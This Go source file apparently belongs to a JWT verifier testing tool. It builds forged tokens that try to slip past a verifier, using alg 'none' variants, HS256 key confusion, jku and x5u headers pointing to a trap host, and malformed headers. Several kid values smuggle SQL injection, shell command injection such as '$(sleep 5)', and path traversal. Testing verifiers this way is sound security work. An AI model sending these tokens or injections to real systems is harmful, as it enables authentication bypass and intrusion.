package forge

import (
	"strconv"
	"strings"

	"github.com/golang-jwt/jwt/v5"
)

// algorithms are writings of alg that are never the target's: none in every form first.
var algorithms = []string{
	`"none"`, `"None"`, `"NONE"`, `"nOnE"`, `" none"`, `"none\u0000"`, `""`, `null`, `0`, `false`, `[]`, `["none"]`, `{}`, ``,
	`"HS1"`, `"HS384"`, `"HS512"`, `"RS1"`, `"RS384"`, `"RS512"`, `"PS256"`, `"PS512"`, `"ES384"`, `"ES512"`, `"ES256K"`, `"Ed25519"`,
	`"Ed448"`, `"dir"`, `"RSA-OAEP"`,
}

// unsigned are tokens whose alg says that the signature is nothing, or something else than it is.
func (t Target) unsigned() []Token {
	var all []Token
	good := strings.Split(t.Good(), ".")
	own := t.Method.Alg()
	for _, alg := range append([]string{strconv.Quote(strings.ToLower(own) + " "), `["` + own + `"]`}, algorithms...) {
		header := t.header("alg", alg)
		signed := encode([]byte(header)) + "." + good[1]
		all = append(
			all,
			Token{"alg " + alg + " without a signature", signed + "."},
			Token{"alg " + alg + " with the old signature", signed + "." + good[2]},
			Token{"alg " + alg + " signed with the right key", t.sign(header, t.claims())},
		)
	}
	return append(
		all,
		Token{"a good token without its signature", good[0] + "." + good[1] + "."},
		Token{"a good token without its third part", good[0] + "." + good[1]},
		Token{"alg in another case of letters", t.sign(t.header("alg", "", "ALG", strconv.Quote(own)), t.claims())},
	)
}

// types are rightly signed tokens of another kind.
func (t Target) types() []Token {
	var all []Token
	writings := []string{
		`"AT+JWT"`, `"application/at+jwt"`, `"rt+jwt"`, `"id+jwt"`, `"dpop+jwt"`, `"logout+jwt"`, `"secevent+jwt"`, `"JWE"`, `"JOSE"`,
		`"at+jwt "`, `""`, `null`, `1`, `["at+jwt"]`, `{"at+jwt":1}`,
	}
	if !t.Foreign {
		writings = append(writings, `"JWT"`, `"jwt"`, ``)
	}
	for _, typ := range writings {
		all = append(all, Token{"typ " + typ, t.sign(t.header("typ", typ), t.claims())})
	}
	return all
}

// members are rightly signed tokens whose headers hold more than they may.
func (t Target) members() []Token {
	var all []Token
	for _, m := range [][2]string{
		{"jku", strconv.Quote(t.Trap + "/jku.json")},
		{"x5u", strconv.Quote(t.Trap + "/x5u.pem")},
		{"jwk", `{"kty":"oct","k":"AAAA"}`},
		{"jwk", `{"kty":"RSA","n":"AQAB","e":"AQAB"}`},
		{"x5c", `["MIIB"]`},
		{"x5t", `"AAAA"`},
		{"x5t#S256", `"AAAA"`},
		{"iss", strconv.Quote(t.Trap)},
		{"url", strconv.Quote(t.Trap)},
		{"crit", `["exp"]`},
		{"crit", `["b64"]`},
		{"crit", `[]`},
		{"crit", `null`},
		{"b64", `false`},
		{"b64", `true`},
		{"zip", `"DEF"`},
		{"cty", `"JWT"`},
		{"nonce", `"x"`},
		{"enc", `"A128GCM"`},
		{"epk", `{}`},
		{"p2c", `2147483647`},
		{"", `""`},
		{"Alg", `"none"`},
		{"KID", `"x"`},
	} {
		all = append(all, Token{"header with " + m[0] + " " + m[1], t.sign(t.header(m[0], m[1]), t.claims())})
	}
	good := t.header()
	for _, header := range []string{
		strings.Replace(good, "{", `{"alg":"none",`, 1),
		strings.Replace(good, "{", `{"alg":`+strconv.Quote(t.Method.Alg())+",", 1),
		strings.Replace(good, "{", `{"\u0061lg":"none",`, 1),
		strings.Replace(good, "{", `{"typ":"at+jwt",`, 1),
		strings.Replace(good, "{", `{"\u0000":1,`, 1),
		strings.TrimSuffix(good, "}") + `,"kid":"a","kid":"b"}`,
		good + "{}", good + " x", "[" + good + "]", good[1:], good[:len(good)-1], strings.TrimSuffix(good, "}") + ",}",
		"\ufeff" + good, "null", `"` + t.Method.Alg() + `"`, "{}", "{", "/**/" + good, strings.ReplaceAll(good, `"`, "'"),
		strings.TrimSuffix(good, "}") + ",\"kid\":\"\xff\"}",
	} {
		all = append(all, Token{"header " + header, t.sign(header, t.claims())})
	}
	return all
}

// names are tokens whose kid leads astray: signed with what it might lead to, and rightly.
func (t Target) names() []Token {
	var all []Token
	kids := []string{
		`""`, `null`, `0`, `-1`, `true`, `[]`, `{}`, `"0"`, `"unknown"`, `"../../../../dev/null"`, `"/dev/null"`, `"C:\\nul"`,
		`"x' UNION SELECT 'secret"`, `"x'; DROP TABLE users; --"`, `"| sleep 5"`, `"$(sleep 5)"`, `"{{7*7}}"`, `"\u0000"`,
		strconv.Quote(t.KID + " "), strconv.Quote(t.KID + `\u0000`), strconv.Quote(strings.ToUpper(t.KID) + "X"), strconv.Quote(t.Trap + "/keys"),
		strconv.Quote("data:application/json,{}"), strconv.Quote(strings.Repeat("k", 129)), strconv.Quote(strings.Repeat("k", 2000)), `"é"`,
	}
	for _, kid := range kids {
		header := t.header("kid", kid)
		all = append(all, Token{"kid " + kid + " with the right key", t.sign(header, t.claims())})
		for name, secret := range map[string]string{"nothing": "", "NUL": "\x00", "what it selects": "secret"} {
			confused := t.header("kid", kid, "alg", `"HS256"`)
			all = append(all, Token{"kid " + kid + " and HS256 with " + name, signWith(jwt.SigningMethodHS256, []byte(secret), confused, t.claims())})
		}
	}
	for _, other := range t.Others {
		kid := strconv.Quote(other.KID)
		all = append(
			all,
			Token{"the kid of " + other.KID + " with the right key", t.sign(t.header("kid", kid), t.claims())},
			Token{"the kid of " + other.KID + " and its alg with the right key", t.sign(t.header("kid", kid, "alg", strconv.Quote(other.Method.Alg())), t.claims())},
			Token{"the key of " + other.KID + " under our header", signWith(other.Method, other.Key, t.header(), t.claims())},
		)
		if other.Issuer != t.Issuer {
			all = append(
				all,
				Token{"our claims, all of " + other.KID, other.sign(other.header(), t.claims())},
				Token{"the claims of " + other.KID + " signed by us", t.sign(t.header(), other.claims())},
			)
		}
	}
	return all
}
